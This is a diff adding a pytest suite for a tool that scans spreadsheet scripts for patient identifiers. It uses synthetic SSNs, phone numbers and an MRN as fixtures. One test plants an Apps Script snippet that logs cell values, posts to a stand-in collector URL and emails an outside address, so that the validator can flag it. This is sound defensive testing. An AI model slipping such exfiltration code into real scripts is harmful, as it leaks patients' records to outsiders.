@@ -1,0 +1,302 @@
+"""PHI end to end: the scan command, the snapshot gate, the pre-commit hook, validation with
+the production reference, acknowledgements, and no raw identifier in any artifact."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from services.emulator.seed import PLANTED_PATIENT, demo_sheets
+from tests.conftest import Demo
+
+SHEETS = {s.number: s for s in demo_sheets()}
+FAST_SHEETS = "\n[client]\nsheets_requests_per_minute = 6000\n"
+
+
+def fast(demo: Demo) -> Demo:
+    text = demo.config_path.read_text().replace(
+        "[client]\n", "[client]\nsheets_requests_per_minute = 6000\n", 1
+    )
+    demo.config_path.write_text(text)
+    return demo
+
+
+def edit_staging(demo: Demo, number: int, addition: str) -> None:
+    store = demo.store()
+    script = SHEETS[number].dev3_script_id
+    files = store.content(script)["files"]
+    files[1]["source"] += addition
+    store.update_content(script, files, "developer@practice.example")
+    store.close()
+
+
+def test_scan_reports_types_lines_masked_excerpts_and_exit_codes(
+    tmp_path: Path, demo: Demo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    clean = tmp_path / "clean.gs"
+    clean.write_text("const to = 'ops@practice.example'; // call (312) 555-0142\n")
+    review = tmp_path / "review.csv"
+    review.write_text("name,phone\nfront desk,(773) 268-4410\n")
+    block = tmp_path / "block.json"
+    block.write_text('{\n  "patient": {\n    "ssn": "412-83-2957"\n  }\n}\n')
+    capsys.readouterr()
+    assert demo.cli("scan", str(clean)) == 0
+    assert demo.cli("scan", str(review)) == 3
+    assert demo.cli("scan", "--json", str(block), str(review)) == 4
+    document = json.loads(capsys.readouterr().out)
+    ssn = next(f for f in document["findings"] if f["type"] == "SSN")
+    assert (ssn["line"], ssn["severity"], ssn["excerpt"]) == (3, "block", "***-**-2957")
+    assert set(ssn) == {
+        "id",
+        "path",
+        "line",
+        "column",
+        "type",
+        "severity",
+        "excerpt",
+        "acknowledged",
+        "reason",
+    }
+    assert document["summary"]["block"] == 1 and document["summary"]["review"] == 1
+    assert demo.cli("scan", "--json", str(block)) == 4
+    again = json.loads(capsys.readouterr().out)["findings"][0]["id"]
+    assert again == ssn["id"]  # stable across runs
+
+
+def test_broken_files_are_scanned_where_possible_and_unscannable_otherwise(
+    tmp_path: Path, demo: Demo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "binary.bin").write_bytes(b"\x00\x01\x02PK\x03\x04" * 100)
+    (tmp_path / "latin1.txt").write_bytes("caf\xe9 SSN 412-83-2957\n".encode("latin-1"))
+    (tmp_path / "empty.gs").write_bytes(b"")
+    big = tmp_path / "big.csv"
+    with big.open("wb") as handle:
+        handle.truncate(50 * 1024 * 1024)
+        handle.seek(0)
+        handle.write(b"a,b\n")
+    capsys.readouterr()
+    assert demo.cli("scan", "--json", str(tmp_path)) == 4
+    findings = json.loads(capsys.readouterr().out)["findings"]
+    by_file = {Path(f["path"]).name: f for f in findings}
+    assert (
+        by_file["binary.bin"]["type"] == "UNSCANNABLE"
+        and by_file["binary.bin"]["severity"] == "review"
+    )
+    assert by_file["big.csv"]["type"] == "UNSCANNABLE" and "20 MB" in by_file["big.csv"]["excerpt"]
+    assert by_file["latin1.txt"]["type"] == "SSN"  # undecodable bytes replaced, not skipped
+    assert "empty.gs" not in by_file
+
+
+def test_scan_of_missing_path_is_a_usage_error(
+    demo: Demo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert demo.cli("scan", "/nonexistent/file.gs") == 2
+    assert "no such file or folder" in capsys.readouterr().err
+
+
+def test_the_planted_leaks_are_found_with_type_and_line_and_every_other_sheet_is_clean(
+    snapshotted: Demo,
+) -> None:
+    state = json.loads(snapshotted.workspace.state_path.read_text())["sheets"]
+    statuses = {int(k): v.get("gate", {}).get("status") for k, v in state.items()}
+    assert {n for n, s in statuses.items() if s != "clean"} == {150, 199}
+    leak_150 = {(f["type"], f["line"]) for f in state["150"]["gate"]["findings"]}
+    assert ("MRN", 60) in leak_150 and ("PHONE", 61) in leak_150
+    assert [(f["type"], f["line"]) for f in state["199"]["gate"]["findings"]] == [("SSN", 59)]
+
+
+def test_validate_uses_the_live_production_reference(
+    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    fast(snapshotted)
+    capsys.readouterr()
+    assert snapshotted.cli("validate", "--sheet", "150", "--sheet", "12", "--json") == 1
+    results = {r["sheet"]: r for r in json.loads(capsys.readouterr().out)["sheets"]}
+    assert results[12]["ok"] and results[12]["phi"] == "clean"
+    found = {(f["type"], f["severity"], f["line"]) for f in results[150]["findings"]}
+    assert ("PRODUCTION_MATCH", "block", 60) in found  # the MRN of a production patient
+    assert ("NAME", "block", 60) in found  # her name, beside her identifier
+    assert results[150]["phi"] == "blocked"
+    state = json.loads(snapshotted.workspace.state_path.read_text())["sheets"]
+    assert state["150"]["validation"]["status"] == "blocked"
+    trail = [json.loads(line) for line in snapshotted.workspace.audit_path.read_text().splitlines()]
+    assert trail[-1]["action"] == "validate" and trail[-1]["sheets"] == [12, 150]
+    store = snapshotted.store()
+    from services.emulator.seed import log_spreadsheet_id
+
+    checks = store.get_values(log_spreadsheet_id(), "'PHI Checks'")["values"]
+    store.close()
+    assert checks[-1][0] == str(trail[-1]["seq"])
+
+
+def test_validation_catches_syntax_manifest_production_ids_and_risks(
+    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    fast(snapshotted)
+    sheet = SHEETS[47]
+    edit_staging(
+        snapshotted,
+        47,
+        f"\nconst PROD = '{sheet.prod_spreadsheet_id}';\n"
+        "function leak() { Logger.log(sheet.getRange('A1').getValue()); "
+        "UrlFetchApp.fetch('https://collector.invalid/upload'); "
+        "MailApp.sendEmail('outside@vendor.example', 's', 'b'); }\n"
+        "function broken( {\n",
+    )
+    assert snapshotted.cli("snapshot", "--sheet", "47") in (0, 1)
+    capsys.readouterr()
+    assert snapshotted.cli("validate", "--sheet", "47", "--json") == 1
+    result = json.loads(capsys.readouterr().out)["sheets"][0]
+    problems = " | ".join(result["problems"])
+    assert "does not parse as JavaScript" in problems
+    assert "hard-codes the production spreadsheet id of sheet 047" in problems
+    assert result["risks"]["new_urls"] == ["https://collector.invalid/upload"]
+    assert result["risks"]["new_recipients"] == ["outside@vendor.example"]
+    assert result["risks"]["logs_cell_values"]
+
+
+def test_acknowledging_a_review_finding_and_refusing_a_block_one(
+    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    fast(snapshotted)
+    edit_staging(snapshotted, 47, "\n// vendor hotline (773) 268-4411\n")
+    assert snapshotted.cli("snapshot", "--sheet", "47") in (0, 1)
+    capsys.readouterr()
+    assert snapshotted.cli("validate", "--sheet", "47", "--json") == 1
+    result = json.loads(capsys.readouterr().out)["sheets"][0]
+    phone = next(f for f in result["findings"] if f["type"] == "PHONE")
+    assert result["phi"] == "needs-review"
+    assert (
+        snapshotted.cli(
+            "acknowledge",
+            "--sheet",
+            "47",
+            "--finding",
+            phone["id"],
+            "--reason",
+            "the vendor's public hotline",
+        )
+        == 0
+    )
+    capsys.readouterr()
+    assert snapshotted.cli("validate", "--sheet", "47", "--json") == 0
+    result = json.loads(capsys.readouterr().out)["sheets"][0]
+    acknowledged = next(f for f in result["findings"] if f["id"] == phone["id"])
+    assert acknowledged["acknowledged"] and acknowledged["reason"] == "the vendor's public hotline"
+    assert result["phi"] == "clean"
+
+    assert snapshotted.cli("validate", "--sheet", "150", "--json") == 1
+    block = next(
+        f
+        for f in json.loads(capsys.readouterr().out)["sheets"][0]["findings"]
+        if f["severity"] == "block"
+    )
+    assert (
+        snapshotted.cli(
+            "acknowledge", "--sheet", "150", "--finding", block["id"], "--reason", "please"
+        )
+        == 5
+    )
+    assert "cannot be acknowledged" in capsys.readouterr().err
+
+
+def test_inline_allow_silences_review_findings_on_that_line_only(
+    demo: Demo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code = tmp_path / "Code.gs"
+    code.write_text(
+        "const HOTLINE = '(773) 268-4410'; // sheetstage: allow-phi vendor hotline, public\n"
+        "const OTHER = '(773) 268-4412';\n"
+        "const BARE = '(773) 268-4413'; // sheetstage: allow-phi\n"
+        "const SSN = '412-83-2957'; // sheetstage: allow-phi test\n"
+    )
+    capsys.readouterr()
+    assert demo.cli("scan", "--json", str(code)) == 4
+    findings = {f["line"]: f for f in json.loads(capsys.readouterr().out)["findings"]}
+    assert findings[1]["acknowledged"] and findings[1]["reason"] == "vendor hotline, public"
+    assert not findings[2]["acknowledged"]
+    assert not findings[3]["acknowledged"] and "without a reason" in findings[3]["reason"]
+    assert findings[4]["severity"] == "block" and not findings[4]["acknowledged"]
+
+
+def test_pre_commit_hook_blocks_a_commit_holding_phi(snapshotted: Demo) -> None:
+    root = snapshotted.workspace.root
+    hook = root / ".git" / "hooks" / "pre-commit"
+    assert hook.is_file()
+    leak = root / "staging-sheets" / "notes.txt"
+    leak.write_text("patient SSN 412-83-2957\n")
+    subprocess.run(["git", "-C", str(root), "add", "staging-sheets/notes.txt"], check=True)
+    blocked = subprocess.run(
+        ["git", "-C", str(root), "commit", "-m", "notes"], capture_output=True, text=True
+    )
+    assert blocked.returncode != 0
+    assert "commit refused" in blocked.stderr and "***-**-2957" in blocked.stderr
+    assert "412-83-2957" not in blocked.stderr
+    leak.write_text("patient SSN 000-12-3456 (never issued)\n")
+    subprocess.run(["git", "-C", str(root), "add", "staging-sheets/notes.txt"], check=True)
+    allowed = subprocess.run(
+        ["git", "-C", str(root), "commit", "-qm", "notes"], capture_output=True
+    )
+    assert allowed.returncode == 0
+
+
+def test_reference_refresh_caches_only_digests_and_offline_scan_uses_them(
+    snapshotted: Demo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    fast(snapshotted)
+    assert snapshotted.cli("reference", "refresh") == 0
+    cache = snapshotted.workspace.internal / "cache" / "reference.json"
+    text = cache.read_text()
+    for raw in PLANTED_PATIENT[:5]:
+        assert raw not in text and raw.lower() not in text
+    assert "40418827" not in text
+    sample = tmp_path / "export.txt"
+    sample.write_text("record 4041-8827 for follow-up\n")  # formatted differently, no context
+    capsys.readouterr()
+    assert snapshotted.cli("scan", "--json", str(sample)) == 4
+    assert json.loads(capsys.readouterr().out)["findings"][0]["type"] == "PRODUCTION_MATCH"
+
+
+def test_no_raw_identifier_appears_in_any_output_or_artifact(
+    snapshotted: Demo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    fast(snapshotted)
+    planted = ["523-71-4086", "523714086", "40418827", "Quenneville", "268-4410", "03/14/1961"]
+    outputs = []
+    for args in (
+        ("--batch",),
+        ("validate", "--sheet", "150", "--sheet", "199", "--json"),
+        ("drift", "--json"),
+        ("reference", "refresh"),
+    ):
+        snapshotted.cli(*args)
+        captured = capsys.readouterr()
+        outputs += [captured.out, captured.err]
+    root = snapshotted.workspace.root
+    artifacts = [
+        root / "state.json",
+        root / "audit" / "audit.jsonl",
+        *(root / ".sheetstage").rglob("*.json"),
+    ]
+    texts = outputs + [p.read_text(errors="replace") for p in artifacts]
+    history = subprocess.run(
+        ["git", "-C", str(root), "log", "-p", "--all"], capture_output=True, text=True
+    ).stdout
+    store = snapshotted.store()
+    from services.emulator.seed import log_spreadsheet_id
+
+    log = json.dumps(
+        [
+            store.get_values(log_spreadsheet_id(), f"'{tab}'")
+            for tab in ("Snapshots", "PHI Checks", "Alerts")
+        ]
+    )
+    store.close()
+    for value in planted:
+        for text in [*texts, log]:
+            assert value not in text
+        if value in ("523-71-4086", "40418827"):  # block values never reach git
+            assert value not in history
